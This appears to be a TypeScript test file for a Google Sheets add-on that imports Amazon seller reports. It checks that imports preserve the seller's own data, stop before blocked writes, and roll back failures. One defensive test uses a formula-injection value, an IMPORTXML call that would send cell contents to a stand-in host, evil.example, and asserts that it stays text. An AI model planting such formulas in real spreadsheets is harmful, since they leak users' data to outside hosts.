/**
 * Issue 11, "Nothing lost", the import's part: each "Reproduced" case of the issue, run on the
 * built bundle in the emulator (which parses typed strings, enforces protections, merges and the
 * platform limits as Sheets does; see tools/emulator/README.md).
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ImportFileInput, ImportResult } from '../../src/core/wire/types';
import { emulateBundle, type Emulator, type SheetSnapshot } from '../helpers/emulator';

const FIXTURES = join(__dirname, '..', 'fixtures', 'reports');
const fixture = (name: string): string => readFileSync(join(FIXTURES, name), 'utf8');
const file = (name: string, text = fixture(name)): ImportFileInput => ({ name, text });

/** Everything about a sheet's cells a writer could damage, keyed by A1. */
function cells(emulator: Emulator, sheet: string): Map<string, string> {
  const snap: SheetSnapshot = emulator.snapshot(sheet, 1, 400);
  const out = new Map<string, string>();
  for (let r = 0; r < snap.values.length; r++) {
    for (let c = 0; c < snap.maxColumns; c++) {
      const v = snap.values[r][c];
      const f = snap.formulas[r][c];
      const n = snap.numberFormats[r][c];
      if (v === '' && f === '' && n === '0.###############') continue;
      out.set(
        `${String.fromCharCode(65 + (c % 26))}${c >= 26 ? 'x' : ''}${r + 1}`,
        JSON.stringify([v, f, n]),
      );
    }
  }
  return out;
}

function changedCells(before: Map<string, string>, after: Map<string, string>): string[] {
  const keys = new Set([...before.keys(), ...after.keys()]);
  return [...keys].filter((k) => before.get(k) !== after.get(k)).sort();
}

function columnOf(emulator: Emulator, sheet: string, header: string): number {
  const snap = emulator.snapshot(sheet, 1, 1);
  const c = snap.values[0].indexOf(header);
  if (c < 0) throw new Error(`no column ${header} in ${sheet}`);
  return c + 1;
}

function rowWith(emulator: Emulator, sheet: string, id: string, type?: string): number {
  const snap = emulator.snapshot(sheet, 1, 400);
  const r = snap.values.findIndex(
    (row) => row[0] === id && (type === undefined || row[1] === type),
  );
  if (r < 0) throw new Error(`no row ${id} in ${sheet}`);
  return r + 1;
}

const ALL_ORDERS = fixture('all-orders.txt');
const HEADER = ALL_ORDERS.split('\n')[0].split('\t');
const col = (name: string): number => HEADER.indexOf(name);

/** The All Orders fixture with one order's status changed and one new order appended. */
function laterAllOrders(): string {
  const lines = ALL_ORDERS.trimEnd().split('\n');
  const second = lines[2].split('\t');
  second[col('order-status')] = 'Cancelled';
  second[col('item-status')] = 'Cancelled';
  second[col('last-updated-date')] = '2024-01-20T08:00:00+00:00';
  lines[2] = second.join('\t');
  const fresh = lines[1].split('\t');
  fresh[col('amazon-order-id')] = '111-0000077-0000077';
  lines.push(fresh.join('\t'));
  return `${lines.join('\n')}\n`;
}

describe('import writes only what changed — and nothing else', () => {
  it('leaves a seller’s own row alone: 00123, 1/2/2024, TRUE, 12% and =IMPORTXML text stay text', () => {
    const { emulator, call } = emulateBundle();
    call('importReports', [file('all-orders.txt')]);
    const sheet = emulator.spreadsheet.getSheetByName('Orders');
    if (!sheet) throw new Error('no Orders');
    // The seller adds an order of their own below the imported ones, typed as text.
    const last = sheet.getLastRow() + 1;
    const typed: [string, string][] = [
      ['amazon-order-id', '111-0000099-0000099'],
      ['purchase-date', '2024-01-15'],
      ['sku', "'00123"],
      ['product-name', '\'=IMPORTXML("https://evil.example/x?"&A2,"//a")'],
      ['item-status', "'TRUE"],
      ['currency', "'12%"],
      ['sales-channel', "'1/2/2024"],
    ];
    for (const [header, value] of typed) {
      sheet.getRange(last, columnOf(emulator, 'Orders', header)).setValue(value);
    }
    const before = cells(emulator, 'Orders');

    const result = call<ImportResult>('importReports', [
      file('all-orders-later.txt', laterAllOrders()),
    ]);
    expect(result.files[0]).toMatchObject({ ok: true, added: 1, updated: 1 });

    const after = cells(emulator, 'Orders');
    const seller = [...before.keys()].filter((k) => k.endsWith(String(last)));
    expect(seller.filter((k) => before.get(k) !== after.get(k))).toEqual([]);
    const values = emulator.snapshot('Orders', last, 1).values[0];
    expect(values[columnOf(emulator, 'Orders', 'sku') - 1]).toBe('00123');
    expect(values[columnOf(emulator, 'Orders', 'item-status') - 1]).toBe('TRUE');
    expect(values[columnOf(emulator, 'Orders', 'currency') - 1]).toBe('12%');
    expect(values[columnOf(emulator, 'Orders', 'sales-channel') - 1]).toBe('1/2/2024');
    expect(
      emulator
        .snapshot('Orders')
        .formulas.flat()
        .filter((f) => f !== ''),
    ).toEqual([]);
  });

  it('changes only the cells of the updated row and the appended row', () => {
    const { emulator, call } = emulateBundle();
    call('importReports', [file('all-orders.txt')]);
    const before = cells(emulator, 'Orders');
    call('importReports', [file('all-orders-later.txt', laterAllOrders())]);
    const changed = changedCells(before, cells(emulator, 'Orders'));
    const rows = new Set(changed.map((k) => Number(/\d+$/.exec(k)?.[0])));
    const updated = rowWith(emulator, 'Orders', '111-0000002-0000002');
    const appended = rowWith(emulator, 'Orders', '111-0000077-0000077');
    expect([...rows].sort((a, b) => a - b)).toEqual([updated, appended].sort((a, b) => a - b));
  });

  it('stops before writing when a formula, a spill, a protected or a merged range is in the way, and names the cell', () => {
    const cases: [string, (e: Emulator) => void, RegExp][] = [
      [
        'formula',
        (e) => e.spreadsheet.getSheetByName('Defects')?.getRange('C3').setFormula('="Open"'),
        /Defects!C3/,
      ],
      ['protected', (e) => e.protect('Defects!C1:C10'), /Defects!C3/],
      [
        'merged',
        (e) => e.spreadsheet.getSheetByName('Defects')?.getRange('C3:D3').merge(),
        /Defects!C3/,
      ],
      [
        'spill',
        (e) => {
          const sheet = e.spreadsheet.getSheetByName('Defects');
          sheet?.getRange('C2:C4').clearContent();
          sheet?.getRange('C2').setFormula('=ARRAYFORMULA(B2:B4)');
        },
        /Defects!C[23]/,
      ],
    ];
    for (const [label, obstruct, where] of cases) {
      const { emulator, call } = emulateBundle();
      call('importReports', [file('claims.txt')]);
      obstruct(emulator);
      const orders = emulator.spreadsheet.getSheetByName('Orders');
      const before = cells(emulator, 'Defects');
      const result = call<ImportResult>('importReports', [
        file('all-orders.txt'),
        file('claims-later.txt'),
      ]);
      expect([label, result.sheetsWritten]).toEqual([label, []]);
      expect([label, result.message]).toEqual([label, expect.stringMatching(where)]);
      expect([label, changedCells(before, cells(emulator, 'Defects'))]).toEqual([label, []]);
      // Orders, which nothing blocked, was not written either: all or nothing.
      expect([label, emulator.spreadsheet.getSheetByName('Orders')]).toEqual([label, orders]);
    }
  });
});

describe('old news never overwrites new', () => {
  it('an older claims list does not turn Denied back into Under review, and says so', () => {
    const { emulator, call } = emulateBundle();
    call('importReports', [file('claims-later.txt')]);
    const before = cells(emulator, 'Defects');
    const older = call<ImportResult>('importReports', [file('claims.txt')]);
    expect(changedCells(before, cells(emulator, 'Defects'))).toEqual([]);
    const row = rowWith(emulator, 'Defects', '111-0000003-0000003');
    expect(emulator.snapshot('Defects', row, 1).values[0][2]).toBe('Denied');
    expect(older.files[0]).toMatchObject({ older: 1, updated: 0 });
    expect(older.files[0].lines.join('\n')).toMatch(
      /1 row\(s\) kept as they are: the sheet already has newer news/,
    );
  });

  it('a status the seller typed is kept, and the summary lists it with both values', () => {
    const { emulator, call } = emulateBundle();
    call('importReports', [file('claims.txt')]);
    const sheet = emulator.spreadsheet.getSheetByName('Defects');
    const row = rowWith(emulator, 'Defects', '111-0000003-0000003');
    sheet?.getRange(row, 3).setValue('Reversed (appeal won)');
    const again = call<ImportResult>('importReports', [file('claims-later.txt')]);
    expect(emulator.snapshot('Defects', row, 1).values[0][2]).toBe('Reversed (appeal won)');
    expect(again.files[0].conflicts).toEqual([
      {
        orderId: '111-0000003-0000003',
        column: 'Status',
        yours: 'Reversed (appeal won)',
        file: 'Denied',
      },
    ]);
    expect(again.files[0].lines).toContain(
      `Defects!C${row} (111-0000003-0000003, Status): yours "Reversed (appeal won)", the file says "Denied"`,
    );
    expect(again.message).toMatch(/1 value\(s\) you typed were kept/);
  });
});

/** The Account Health fixture with `count` marketplaces. */
function accountHealth(count: number): string {
  const base = JSON.parse(fixture('account-health.json')) as {
    performanceMetrics: { marketplaceId: string }[];
  };
  const metric = base.performanceMetrics[0];
  base.performanceMetrics = Array.from({ length: count }, (_, i) => ({
    ...metric,
    marketplaceId: `A${String(i).padStart(12, '0')}`,
  }));
  return JSON.stringify(base);
}

describe('all or nothing, checked before the first write', () => {
  it('writes nothing, not even Orders, when the Defects sheet is protected', () => {
    const { emulator, call } = emulateBundle();
    call('importReports', [file('claims.txt')]);
    emulator.protect('Defects');
    const before = cells(emulator, 'Defects');
    const result = call<ImportResult>('importReports', [
      file('all-orders.txt'),
      file('claims-later.txt'),
    ]);
    expect(result).toMatchObject({ outcome: 'stopped', sheetsWritten: [] });
    expect(result.message).toMatch(
      /^Nothing was imported: it would change Defects!C3, but that cell is in a protected range/,
    );
    expect(emulator.spreadsheet.getSheetByName('Orders')).toBeNull();
    expect(changedCells(before, cells(emulator, 'Defects'))).toEqual([]);
  });

  it('saves an Account Health report with 45 marketplaces with Orders, every value under 8,000 bytes', () => {
    const { emulator, call } = emulateBundle();
    const result = call<ImportResult>('importReports', [
      file('all-orders.txt'),
      file('account-health.json', accountHealth(45)),
    ]);
    expect(result.outcome).toBe('written');
    expect(result.sheetsWritten).toEqual(['Orders']);
    expect(result.files[1].lines.join('\n')).toMatch(
      /Amazon’s ODR figures read for 45 marketplace\(s\)/,
    );
    // Every stored value within the 8,000 bytes a property safely holds.
    const props = emulator.properties('document');
    for (const value of Object.values(props)) {
      expect(Buffer.byteLength(value)).toBeLessThanOrEqual(8_000);
    }
    const dash = call<{ amazonFigures: unknown[] }>('getDashboard');
    expect(dash.amazonFigures).toHaveLength(90);
  });

  it('stops before writing Orders when the figures would not fit in the properties', () => {
    const { emulator, call } = emulateBundle();
    const props = emulator.globals.PropertiesService as {
      getDocumentProperties(): { setProperty(k: string, v: string): void };
    };
    // Someone else's data fills the store almost to Google's 500 KB.
    for (let i = 0; i < 62; i++) {
      props.getDocumentProperties().setProperty(`other.${i}`, 'x'.repeat(8_000));
    }
    props.getDocumentProperties().setProperty('other.last', 'x'.repeat(3_500));
    const result = call<ImportResult>('importReports', [
      file('all-orders.txt'),
      file('account-health.json', accountHealth(45)),
    ]);
    expect(result.outcome).toBe('stopped');
    expect(result.message).toMatch(
      /^Nothing was imported: the add-on's saved data in this spreadsheet would take/,
    );
    expect(emulator.spreadsheet.getSheetByName('Orders')).toBeNull();
  });

  it('cuts a 60,000-character comment to fit its cell, with a visible marker', () => {
    const { emulator, call } = emulateBundle();
    const comment = 'The parcel never came. '.repeat(2_700).slice(0, 60_000);
    const result = call<ImportResult>('importReports', [
      file(
        'feedback.txt',
        `Date\tRating\tComments\tOrder ID\n1/15/24\t1\t${comment}\t111-0000001-0000001\n`,
      ),
    ]);
    expect(result.outcome).toBe('written');
    const cell = String(emulator.snapshot('Defects', 2, 1).values[0][5]);
    expect(cell.length).toBeLessThanOrEqual(50_000);
    expect(cell).toMatch(/…\(\d+ more\)$/);
  });

  it('undoes what it wrote when a write still fails half-way, and says so', () => {
    const { emulator, call } = emulateBundle();
    call('importReports', [file('claims.txt'), file('all-orders.txt')]);
    const orders = cells(emulator, 'Orders');
    const defects = cells(emulator, 'Defects');
    // A write that fails after the check: the second value batch of this import throws.
    const proto = Object.getPrototypeOf(emulator.spreadsheet.getSheets()[0].getRange(1, 1)) as {
      setValues: (v: unknown[][]) => unknown;
    };
    const setValues = proto.setValues;
    let calls = 0;
    proto.setValues = function (this: unknown, v: unknown[][]) {
      calls++;
      if (calls === 2) throw new Error('Service Spreadsheets timed out while accessing document');
      return setValues.call(this, v);
    };
    try {
      const result = call<ImportResult>('importReports', [
        file('all-orders-later.txt', laterAllOrders()),
        file('claims-later.txt'),
      ]);
      expect(calls).toBeGreaterThanOrEqual(2);
      expect(result.outcome).toBe('rolledBack');
      expect(result.message).toMatch(/everything it had written was undone/);
    } finally {
      proto.setValues = setValues;
    }
    expect(changedCells(orders, cells(emulator, 'Orders'))).toEqual([]);
    expect(changedCells(defects, cells(emulator, 'Defects'))).toEqual([]);
  });
});

describe('a constant number of sheet calls for the common cases', () => {
  const HEAD = 'amazon-order-id\tpurchase-date\torder-status\tsku\tquantity';
  const line = (i: number, status = 'Pending') =>
    `111-${String(i).padStart(7, '0')}-0000001\t2024-01-${String(1 + (i % 28)).padStart(2, '0')}T10:00:00+00:00\t${status}\tSKU-${i % 7}\t1`;
  const report = (lines: string[]) => ({
    name: 'orders.txt',
    text: `${[HEAD, ...lines].join('\n')}\n`,
  });

  function calls(env: ReturnType<typeof emulateBundle>, files: ImportFileInput[]) {
    env.emulator.resetCalls();
    const result = env.call<ImportResult>('importReports', files);
    expect(result.outcome).toBe('written');
    return {
      reads: env.emulator.readCalls(),
      writes: env.emulator.writeCalls(),
      all: env.emulator.totalCalls(),
    };
  }

  it('appending rows: the same calls for 10 or 800 new rows, whatever the rows before', () => {
    const append = (have: number, add: number) => {
      const env = emulateBundle();
      const first = Array.from({ length: have }, (_, i) => line(i, 'Shipped'));
      env.call('importReports', [report(first)]);
      const more = Array.from({ length: add }, (_, i) => line(have + i));
      const c = calls(env, [report([...first, ...more])]);
      expect(env.emulator.snapshot('Orders', have + add + 1, 1).values[0][0]).toBe(
        `111-${String(have + add - 1).padStart(7, '0')}-0000001`,
      );
      return c;
    };
    // Inside the sheet's grid (1,000 rows), and past it (the grid grows: one call more).
    const inside = [append(100, 10), append(100, 800)];
    const past = [append(5_000, 10), append(5_000, 800)];
    expect(inside[1]).toEqual(inside[0]);
    expect(past[1]).toEqual(past[0]);
    // One batch of formats and values (and the grid growth), whatever the rows.
    expect(inside[0].writes).toBe(2);
    expect(past[0].writes).toBe(3);
    console.log(
      `import append calls: ${JSON.stringify(inside[0])} / past the grid ${JSON.stringify(past[0])}`,
    );
  });

  it('one changed column: the same calls for 5 or 500 scattered status changes', () => {
    const counts = [5, 500].map((changes) => {
      const env = emulateBundle();
      const rows = 5_000;
      const first = Array.from({ length: rows }, (_, i) => line(i));
      env.call('importReports', [report(first)]);
      const every = Math.floor(rows / changes);
      const later = first.map((l, i) => (i % every === 3 ? l.replace('Pending', 'Shipped') : l));
      const c = calls(env, [report(later)]);
      const snap = env.emulator.snapshot('Orders', 1, rows + 1);
      expect(snap.values.filter((r) => r[2] === 'Shipped')).toHaveLength(changes);
      return c;
    });
    expect(counts[1]).toEqual(counts[0]);
    console.log(`import one-column update calls: ${JSON.stringify(counts[0])}`);
  });
});

describe('sample data and templates: all or nothing', () => {
  /** A workbook a few thousand cells short of Sheets' 10 million. */
  function nearlyFull() {
    const env = emulateBundle();
    const sheet = env.emulator.spreadsheet.getSheets()[0];
    sheet.insertRowsAfter(1000, 383_000); // 384,000 × 26 = 9,984,000 cells
    return env;
  }

  it.each(['insertSampleData', 'insertTemplates'])(
    '%s checks the cell limit first and adds no sheet when it would not fit',
    (command) => {
      const { emulator, call } = nearlyFull();
      const before = emulator.spreadsheet.getSheets().length;
      const out = call<string | { message: string }>(command);
      const message = typeof out === 'string' ? out : out.message;
      expect(message).toMatch(/^Nothing was written: the spreadsheet would grow to .* cells/);
      expect(emulator.spreadsheet.getSheets()).toHaveLength(before);
    },
  );

  it.each(['insertSampleData', 'insertTemplates'])(
    '%s removes the sheets it added when a write fails half-way',
    (command) => {
      const { emulator, call } = emulateBundle();
      const proto = Object.getPrototypeOf(emulator.spreadsheet.getSheets()[0].getRange(1, 1)) as {
        setValues: (v: unknown[][]) => unknown;
      };
      const setValues = proto.setValues;
      let n = 0;
      proto.setValues = function (this: unknown, v: unknown[][]) {
        if (++n === 2) throw new Error('Service Spreadsheets failed while accessing document');
        return setValues.call(this, v);
      };
      try {
        const out = call<string | { message: string }>(command);
        const message = typeof out === 'string' ? out : out.message;
        expect(message).toMatch(
          /^Writing failed \(Service Spreadsheets failed.*the sheets it had added were removed/,
        );
      } finally {
        proto.setValues = setValues;
      }
      expect(emulator.spreadsheet.getSheets().map((s) => s.getName())).toEqual(['Sheet1']);
    },
  );

  it('a template’s typed rows are the seller’s: an import lists a difference and keeps them', () => {
    const { emulator, call } = emulateBundle();
    call('insertTemplates');
    const defects = emulator.spreadsheet.getSheetByName('Defects');
    defects
      ?.getRange('A2:D2')
      .setValues([['111-0000003-0000003', 'A-to-z claim', 'Open', '2024-02-02']]);
    expect(emulator.snapshot('Defects').hiddenColumns).toEqual([10]);
    const result = call<ImportResult>('importReports', [file('claims-later.txt')]);
    expect(emulator.snapshot('Defects', 2, 1).values[0][2]).toBe('Open');
    expect(result.files[0].conflicts).toEqual([
      { orderId: '111-0000003-0000003', column: 'Status', yours: 'Open', file: 'Denied' },
    ]);
  });
});
